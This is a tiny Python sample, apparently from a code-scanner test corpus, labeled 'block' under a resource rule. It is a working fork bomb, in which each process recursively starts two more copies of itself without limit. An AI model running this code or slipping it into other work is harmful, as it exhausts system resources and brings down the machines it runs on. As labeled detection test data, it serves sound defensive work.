# pyguard-corpus: verdict=block category=resource rules=PG408
# what: every process starts two more processes running the same function, without limit
from multiprocessing import Process


def spawn():
    for _ in range(2):
        Process(target=spawn).start()


if __name__ == "__main__":
    spawn()
